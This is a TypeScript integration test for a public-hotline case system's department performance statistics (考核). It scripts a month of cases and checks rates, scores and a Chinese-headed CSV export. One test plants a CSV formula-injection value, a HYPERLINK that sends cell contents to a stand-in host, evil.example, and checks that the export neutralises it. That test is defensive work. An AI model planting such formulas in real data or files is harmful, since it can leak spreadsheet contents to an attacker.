import { parse } from 'csv-parse/sync';
import { APP_CONFIG, type AppConfig } from '../src/config/app-config';
import { asUser, caseBody, createDepartment, login, staff } from './factories';
import { startApp, TestClock, type TestApp } from './setup/test-app';

// June 2031: a month no other spec touches, on weekdays-on, weekends-off (no official 2031 calendar).
const shanghai = (local: string) => new Date(`${local}+08:00`);

describe('figures (考核): a scripted month across departments', () => {
  let t: TestApp;
  const clock = new TestClock();
  let operator: string;
  let supervisor: string;
  const d: Record<'A' | 'B' | 'C' | 'D', { id: string; code: string }> = {} as never;
  const handlers: Record<string, string> = {};

  const as = (token: string) => asUser(t, token);
  /** Moves the clock, then does the thing, expecting 200/201. */
  const at = async (local: string, request: () => ReturnType<ReturnType<typeof as>['post']>) => {
    clock.set(shanghai(local));
    const res = await request();
    if (res.status >= 300) throw new Error(`${local}: ${res.status} ${JSON.stringify(res.body)}`);
    return res.body;
  };
  const newCase = (local: string) => at(local, () => as(operator).post('/api/cases', caseBody({ categoryCode: 'water.supply' })));
  const dispatch = (local: string, id: string, to: keyof typeof d) =>
    at(local, () => as(operator).post(`/api/cases/${id}/dispatch`, { departmentId: d[to].id }));
  const act = (local: string, who: string, id: string, verb: string, body: object = {}) =>
    at(local, () => as(handlers[who]).post(`/api/cases/${id}/${verb}`, body));
  const callback = (local: string, id: string, satisfaction: string, resolved: boolean) =>
    at(local, () => as(operator).post(`/api/cases/${id}/callback`, { satisfaction, resolved }));
  const answer = { content: '已处理完毕。', resolution: 'resolved' };

  beforeAll(async () => {
    // Every rate counts however few cases it rests on: the formulas by hand. (The minimum sample below.)
    t = await startApp({ figuresMinSample: 1 }, undefined, clock);
    operator = await login(t, 'op1', 'demo12345');
    supervisor = await login(t, 'sup1', 'demo12345');
    for (const name of ['A', 'B', 'C'] as const) d[name] = await createDepartment(t.dataSource);
    d.D = await createDepartment(t.dataSource, { parentId: d.C.id }); // a street unit under C
    for (const name of ['A', 'B', 'C', 'D'] as const) handlers[name] = (await staff(t, 'handler', d[name].id)).token;
    handlers.leadC = (await staff(t, 'dept_lead', d.C.id)).token;
    handlers.leadA = (await staff(t, 'dept_lead', d.A.id)).token;

    // A1: A signs and replies on time; satisfied, resolved.
    const a1 = await newCase('2031-06-02T09:00:00');
    await dispatch('2031-06-02T09:00:00', a1.id, 'A');
    await act('2031-06-02T10:00:00', 'A', a1.id, 'sign');
    await act('2031-06-03T10:00:00', 'A', a1.id, 'reply', answer); // 25 h after dispatch
    await callback('2031-06-04T09:00:00', a1.id, 'satisfied', true);

    // A2: A signs late (deadline: end of Tue 06-03) and replies late (deadline: end of Wed 06-11); basically satisfied, not resolved.
    const a2 = await newCase('2031-06-02T09:00:00');
    await dispatch('2031-06-02T09:00:00', a2.id, 'A');
    await act('2031-06-04T10:00:00', 'A', a2.id, 'sign');
    await act('2031-06-16T10:00:00', 'A', a2.id, 'reply', answer); // 337 h after dispatch
    await callback('2031-06-17T09:00:00', a2.id, 'basically_satisfied', false);

    // X: A returns it at once; B signs and replies on time; unsatisfied → reopened; B replies again; satisfied.
    const x = await newCase('2031-06-02T09:00:00');
    await dispatch('2031-06-02T09:00:00', x.id, 'A');
    await act('2031-06-02T11:00:00', 'A', x.id, 'return', { reason: '属水务部门职责' });
    await dispatch('2031-06-02T12:00:00', x.id, 'B');
    await act('2031-06-02T13:00:00', 'B', x.id, 'sign');
    await act('2031-06-03T12:00:00', 'B', x.id, 'reply', answer); // 24 h after B received it
    await callback('2031-06-04T09:00:00', x.id, 'unsatisfied', false);
    await act('2031-06-04T12:00:00', 'B', x.id, 'reply', answer);
    await callback('2031-06-05T09:00:00', x.id, 'satisfied', true);

    // B1: B never signs: overdue.
    const b1 = await newCase('2031-06-02T09:00:00');
    await dispatch('2031-06-02T09:00:00', b1.id, 'B');

    // C1: C on time; the citizen rates it online: unsatisfied, but resolved.
    const c1 = await newCase('2031-06-02T09:00:00');
    await dispatch('2031-06-02T09:00:00', c1.id, 'C');
    await act('2031-06-02T10:00:00', 'C', c1.id, 'sign');
    await act('2031-06-02T15:00:00', 'C', c1.id, 'reply', answer); // 6 h
    clock.set(shanghai('2031-06-03T09:00:00'));
    await t.http().post(`/api/public/cases/${c1.trackingCode}/rating`).send({ verify: c1.queryCode, satisfaction: 'unsatisfied', resolved: true }).expect(200);

    // D1: to C, passed down to its unit D, which signs and replies on time; satisfied.
    const d1 = await newCase('2031-06-02T09:00:00');
    await dispatch('2031-06-02T09:00:00', d1.id, 'C');
    await act('2031-06-02T10:00:00', 'leadC', d1.id, 'dispatch', { departmentId: d.D.id });
    await act('2031-06-02T11:00:00', 'D', d1.id, 'sign');
    await act('2031-06-02T14:00:00', 'D', d1.id, 'reply', answer); // 4 h after D received it
    await callback('2031-06-03T09:00:00', d1.id, 'satisfied', true);

    // May: outside the period.
    const may = await newCase('2031-05-30T09:00:00');
    await dispatch('2031-05-30T09:00:00', may.id, 'C');
    await act('2031-05-30T10:00:00', 'C', may.id, 'sign');

    clock.set(shanghai('2031-06-20T12:00:00'));
  });
  afterAll(() => t.close());

  const expected = () => ({
    A: {
      received: 3,
      signOnTimeRate: 1 / 2, // A1 on time, A2 late; X left before its deadline
      replyOnTimeRate: 1 / 2,
      resolutionRate: 1 / 2,
      satisfactionRate: 2 / 2,
      returnRate: 1 / 3,
      reopenRate: 0 / 2,
      overdueOpen: 0,
      avgReplyHours: (25 + 337) / 2,
      score: 70, // 100 × (0.1 × 0.5 + 0.5 × 0.5 + 0.4 × 1)
    },
    B: {
      received: 2,
      signOnTimeRate: 1 / 2, // X on time; B1's deadline passed unsigned
      replyOnTimeRate: 1 / 1,
      resolutionRate: 1 / 1, // X's last callback
      satisfactionRate: 1 / 1,
      returnRate: 0,
      reopenRate: 1 / 1,
      overdueOpen: 1,
      avgReplyHours: 24,
      score: 95,
    },
    C: {
      // C's own C1 and (C's row of) D1, plus its unit D's D1: two distinct cases
      received: 2,
      signOnTimeRate: 2 / 2, // C1 by C, D1 by D; C passed D1 down before its own deadline
      replyOnTimeRate: 2 / 2,
      resolutionRate: 2 / 2,
      satisfactionRate: 1 / 2, // C1 unsatisfied, D1 satisfied
      returnRate: 0 / 3,
      reopenRate: 0 / 2,
      overdueOpen: 0,
      avgReplyHours: (6 + 4) / 2,
      score: 80,
    },
    D: {
      received: 1,
      signOnTimeRate: 1,
      replyOnTimeRate: 1,
      resolutionRate: 1,
      satisfactionRate: 1,
      returnRate: 0,
      reopenRate: 0,
      overdueOpen: 0,
      avgReplyHours: 4,
      score: 100,
    },
  });

  const rowsOf = (body: Record<string, unknown>[]): Record<string, Record<string, unknown>> =>
    Object.fromEntries(body.map((r) => [r.code as string, r]));

  it('match hand-computed values in JSON', async () => {
    const res = await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200);
    const rows = rowsOf(res.body);
    for (const name of ['A', 'B', 'C', 'D'] as const) {
      const row = rows[d[name].code];
      const want = expected()[name];
      expect(row).toEqual(expect.objectContaining({ departmentId: d[name].id, code: d[name].code, name: expect.any(String) }));
      for (const [key, value] of Object.entries(want)) {
        expect([name, key, row[key]]).toEqual([name, key, expect.closeTo(value, 10)]);
      }
    }
  });

  it('match in CSV, by Accept header and by .csv path: Chinese headers, codes and names, percentages, BOM and CRLF', async () => {
    const json = (await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200)).body as { code: string; name: string }[];
    for (const res of [
      await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).set('Accept', 'text/csv').expect(200),
      await as(supervisor).get('/api/stats/departments.csv', { from: '2031-06-01', to: '2031-06-30' }).expect(200),
    ]) {
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('12345考核-2031-06-01-2031-06-30.csv')}`);
      const bytes = Buffer.from(res.text, 'utf8');
      // The UTF-8 byte-order mark (EF BB BF) first: how Excel and WPS know the file is UTF-8.
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      // Every line ends CRLF; no bare LF anywhere.
      expect(res.text.endsWith('\r\n')).toBe(true);
      expect(res.text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      const [header, ...lines] = parse(res.text, { bom: true, record_delimiter: '\r\n' }) as string[][];
      expect(header).toEqual([
        '单位编码', '单位名称', '受理量', '按时签收率', '签收样本数', '按时答复率', '答复样本数', '解决率', '满意率', '回访样本数',
        '退单率', '退单不予认可数', '重办率', '超时在办', '平均答复时长（小时）', '综合得分',
      ]);
      // No department id anywhere in the file.
      expect(res.text).not.toContain(d.A.id);
      const byCode = Object.fromEntries(lines.map((line) => [line[0], Object.fromEntries(header.map((c, i) => [c, line[i]]))]));
      expect(byCode[d.A.code]).toMatchObject({
        单位编码: d.A.code,
        受理量: '3',
        按时签收率: '50.00%',
        签收样本数: '2',
        满意率: '100.00%',
        回访样本数: '2',
        退单率: '33.33%',
        '平均答复时长（小时）': '181.00',
        综合得分: '70.00',
      });
      expect(byCode[d.A.code].单位名称).toBe(json.find((r) => r.code === d.A.code)!.name);
      expect(byCode[d.D.code]).toMatchObject({ 退单率: '0.00%', 重办率: '0.00%', 综合得分: '100.00' });
      // A rate with no denominator is an empty cell, not 0%; so is a score with no rate.
      expect(byCode.rsj).toMatchObject({ 受理量: '0', 按时签收率: '', 签收样本数: '0', 满意率: '', '平均答复时长（小时）': '', 综合得分: '' });
    }
  });

  it('CSV cells a spreadsheet would run as a formula are defused; commas and quotes are quoted', async () => {
    const hostile = await createDepartment(t.dataSource, { name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")' });
    const minus = await createDepartment(t.dataSource, { name: '-2+3,"区"' });
    const res = await as(supervisor).get('/api/stats/departments.csv', { from: '2031-06-01', to: '2031-06-30' }).expect(200);
    const rows = parse(res.text, { bom: true }) as string[][];
    const names = new Map(rows.map((r) => [r[0], r[1]]));
    expect(names.get(hostile.code)).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
    expect(names.get(minus.code)).toBe(`'-2+3,"区"`);
    // No cell of the file starts with a formula character.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Out of every other spec's lists.
    await t.dataSource.query(`UPDATE departments SET active = false WHERE id = ANY($1)`, [[hostile.id, minus.id]]);
  });

  it('each row names the cases behind its rates; a rate on fewer than FIGURES_MIN_SAMPLE cases stays out of the score', async () => {
    const rows = rowsOf((await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200)).body);
    expect(rows[d.B.code]).toMatchObject({ samples: { signOnTime: 2, replyOnTime: 1, resolution: 1, satisfaction: 1 }, minSample: 1 });
    // The same app with a minimum of 2 (read at each request): B's sign-on-time (2 cases) alone counts,
    // D has no rate on 2 cases (score null), A's and C's rates all rest on 2 and keep their scores.
    const config = t.app.get<AppConfig>(APP_CONFIG);
    config.figuresMinSample = 2;
    try {
      const res = await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200);
      const strictRows = rowsOf(res.body);
      expect(Object.fromEntries((['A', 'B', 'C', 'D'] as const).map((n) => [n, strictRows[d[n].code].score]))).toEqual({ A: 70, B: 50, C: 80, D: null });
      // The rates themselves are still published (the contract), with their denominators.
      expect(strictRows[d.D.code]).toMatchObject({ signOnTimeRate: 1, samples: { signOnTime: 1 }, minSample: 2 });
      const open = await t.http().get('/api/public/stats').query({ from: '2031-06-01', to: '2031-06-30' }).expect(200);
      expect(rowsOf(open.body)[d.B.code]).toEqual(strictRows[d.B.code]);
    } finally {
      config.figuresMinSample = 1;
    }
  });

  it('are the same rows for the public; a dept_lead sees its own row only; others may not look', async () => {
    const internal = await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200);
    const open = await t.http().get('/api/public/stats').query({ from: '2031-06-01', to: '2031-06-30' }).expect(200);
    expect(rowsOf(open.body)[d.B.code]).toEqual(rowsOf(internal.body)[d.B.code]);
    const own = await as(handlers.leadA).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200);
    expect(own.body.map((r: { code: string }) => r.code)).toEqual([d.A.code]);
    await as(handlers.A).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(403);
    await as(operator).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(403);
  });

  it('a period with nothing in it has null rates; bad periods are 400', async () => {
    const res = await as(supervisor).get('/api/stats/departments', { from: '2031-08-01', to: '2031-08-31' }).expect(200);
    expect(rowsOf(res.body)[d.A.code]).toEqual(
      expect.objectContaining({ received: 0, signOnTimeRate: null, satisfactionRate: null, avgReplyHours: null, score: null }),
    );
    await as(supervisor).get('/api/stats/departments', { from: '2031-06-30', to: '2031-06-01' }).expect(400);
    await as(supervisor).get('/api/stats/departments', { from: '2029-01-01', to: '2031-06-01' }).expect(400);
    await as(supervisor).get('/api/stats/departments', { from: 'June', to: '2031-06-01' }).expect(400);
  });
});
